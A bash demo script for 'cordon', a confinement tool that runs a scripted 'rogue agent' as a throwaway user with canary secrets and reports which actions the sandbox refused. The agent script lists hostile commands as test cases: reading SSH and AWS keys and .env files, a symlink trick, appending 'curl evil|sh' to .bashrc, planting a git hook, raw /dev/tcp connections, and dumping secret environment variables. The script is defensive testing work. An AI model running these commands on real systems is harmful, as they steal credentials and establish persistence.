#!/bin/bash
# SPDX-License-Identifier: GPL-2.0-only
# `make demo`: a scripted rogue agent in a confined session on the embedded `agent` policy, as a
# throwaway user with canary secrets, and a table of what it did and what cordon refused.
set -euo pipefail

cordon=$(realpath "${1:-build/cordon}")
user=cordon-demo

if [ "$(id -u)" -ne 0 ]; then
	echo "demo: run as root (it creates the throwaway user '$user'): sudo make demo" >&2
	exit 1
fi

echo "== What this kernel lets cordon enforce (cordon doctor)"
"$cordon" doctor | sed -n '/Enforcement layers/,$p'
echo

id "$user" >/dev/null 2>&1 || useradd --create-home --shell /bin/bash "$user"
home=$(getent passwd "$user" | cut -d: -f6)
work=$(mktemp -d /tmp/cordon-demo.XXXXXX)
project="$work/project"
audit="$work/audit.jsonl"
outside_pid=""
cleanup() {
	[ -n "$outside_pid" ] && kill "$outside_pid" 2>/dev/null
	rm -rf "$work"
}
trap cleanup EXIT

# Canary secrets: if the agent can read one, the demo prints it.
install -d -m 700 -o "$user" "$home/.ssh" "$home/.aws"
echo "CANARY-ssh-private-key" | install -m 600 -o "$user" /dev/stdin "$home/.ssh/id_rsa"
echo "CANARY-aws-secret" | install -m 600 -o "$user" /dev/stdin "$home/.aws/credentials"
touch "$home/.bashrc" && chown "$user" "$home/.bashrc"
# The work directory is root's: the audit log beside the project must be out of the user's reach.
chmod 755 "$work"
install -d -o "$user" "$project" "$project/.git" "$project/.git/hooks"
echo "API_TOKEN=CANARY-dotenv" | install -m 600 -o "$user" /dev/stdin "$project/.env"

# A process of the same user outside the session, for the agent to try to signal.
setpriv --reuid="$user" --regid="$user" --init-groups sleep 600 &
outside_pid=$!

cat >"$project/agent.sh" <<'EOF'
#!/bin/bash
# A "rogue agent": one line per action: NAME <tab> expect(ok|refused) <tab> exit status <tab> output
try() {
	local name=$1 expect=$2 out rc
	shift 2
	out=$( (eval "$@") 2>&1) && rc=0 || rc=$?
	printf '%s\t%s\t%s\t%s\n' "$name" "$expect" "$rc" "$(echo "$out" | tr '\n\t' '  ' | cut -c1-70)"
}
try "edit and run a script in the project" ok 'echo "echo built" > build.sh && bash build.sh'
try "list the system's binaries" ok 'ls /usr/bin | wc -l'
try "read ~/.ssh/id_rsa" refused 'cat ~/.ssh/id_rsa'
try "read ~/.aws/credentials" refused 'cat ~/.aws/credentials'
try "read the project's .env" refused 'cat .env'
try "read ~/.ssh/id_rsa via a symlink in the project" refused 'ln -sf ~/.ssh/id_rsa key && cat key'
try "append to ~/.bashrc (persistence)" refused 'echo "curl evil|sh" >> ~/.bashrc'
try "plant .git/hooks/pre-commit" refused 'echo "#!/bin/sh" > .git/hooks/pre-commit'
# /tmp and /var/tmp are the session's own (empty, gone with it): outside the project means home.
try "write outside the project (~/notes.txt)" refused 'echo x > "$HOME/notes.txt"'
try "connect to an unlisted host (203.0.113.7:443)" refused 'exec 3<>/dev/tcp/203.0.113.7/443'
try "connect to a local database (127.0.0.1:5432)" refused 'exec 3<>/dev/tcp/127.0.0.1/5432'
try "create a user namespace (unshare -U)" refused 'unshare -U true'
try "signal a process outside the session" refused "kill -STOP $OUTSIDE_PID"
try "secret environment variables" refused 'env | grep -E "^(AWS_SECRET_ACCESS_KEY|GITHUB_TOKEN)="'
EOF
chmod 755 "$project/agent.sh"
chown "$user" "$project/agent.sh"

# This host may lack BPF LSM: the agent policy is strict, so cordon lists what it cannot enforce
# here and --allow-degraded accepts that, visibly.
echo "== cordon run --user $user --allow-degraded -- ./agent.sh"
echo "(on stderr: the start line and, at exit, the report of what was refused, each with its rule"
echo " and the entry that would allow it, or why nothing can)"
result=$(cd "$project" && AWS_SECRET_ACCESS_KEY=CANARY-env GITHUB_TOKEN=CANARY-env \
	OUTSIDE_PID=$outside_pid "$cordon" run --user "$user" --allow-degraded \
	--audit-log "$audit" -- ./agent.sh)
echo

# Which layer refused: the layer of the audit record naming the object (its path, address or
# syscall; "?" marks a layer inferred from the errno at the syscall's exit). Two refusals leave
# no record: a signal to a process the session's pid namespace does not show, and variables the
# environment scrub dropped before the start.
key_of() {
	case "$1" in
	*"~/.ssh/id_rsa"*symlink*) echo "/project/key" ;;
	*"~/.ssh/id_rsa"*) echo "/.ssh/id_rsa" ;;
	*"~/.aws/credentials"*) echo "/.aws/credentials" ;;
	*".env"*) echo "/project/.env" ;;
	*bashrc*) echo "/.bashrc" ;;
	*pre-commit*) echo "/hooks/pre-commit" ;;
	*notes.txt*) echo "/notes.txt" ;;
	*203.0.113.7*) echo "203.0.113.7:443" ;;
	*5432*) echo "127.0.0.1:5432" ;;
	*unshare*) echo "syscall-unshare" ;;
	esac
}
layer_of() {
	local key
	key=$(key_of "$1")
	case "$1" in
	*signal*) echo "pid namespace (no such process; no record)"; return ;;
	*environment*) echo "environment scrub (at start; no record)"; return ;;
	esac
	/usr/bin/python3 - "$audit" "$key" <<'PY'
import json, sys
log, key = sys.argv[1:3]
for line in open(log):
    r = json.loads(line)
    if r.get("event", {}).get("outcome") != "failure":
        continue
    d = r.get("destination", {})
    what = (r.get("file", {}).get("path") or "", "%s:%s" % (d.get("ip"), d.get("port")),
            r.get("event", {}).get("action"))
    if what[0].endswith(key) or key in what[1:]:
        print("%s (audited)" % r.get("cordon", {}).get("layer", "?"))
        sys.exit(0)
print("no audit record")
PY
}

printf '%-50s %-9s %s\n' "ACTION" "RESULT" "REFUSED BY / OUTPUT"
bad=0
while IFS=$'\t' read -r name expect rc out; do
	if [ "$rc" = 0 ]; then
		res="allowed"
		detail=$out
	else
		res="REFUSED"
		detail="$(layer_of "$name" "$out"): ${out}"
	fi
	printf '%-50s %-9s %s\n' "$name" "$res" "$detail" | cut -c1-150
	if { [ "$expect" = ok ] && [ "$rc" != 0 ]; } || { [ "$expect" = refused ] && [ "$rc" = 0 ]; }; then
		bad=$((bad + 1))
	fi
done <<<"$result"
echo
if grep -q CANARY <<<"$result"; then
	echo "demo: a canary secret reached the agent" >&2
	bad=$((bad + 1))
fi
echo "What the audit log recorded as refused (cordon audit --type denied $audit):"
"$cordon" audit --type denied "$audit" | sed 's/^/  /' | cut -c1-160
echo "($(wc -l <"$audit") records in all: session start/end, every exec and exit, every refusal)"
echo
if [ "$bad" -ne 0 ]; then
	echo "demo: $bad action(s) did not behave as expected" >&2
	exit 1
fi
echo "demo: every legitimate action worked and every rogue action was refused."
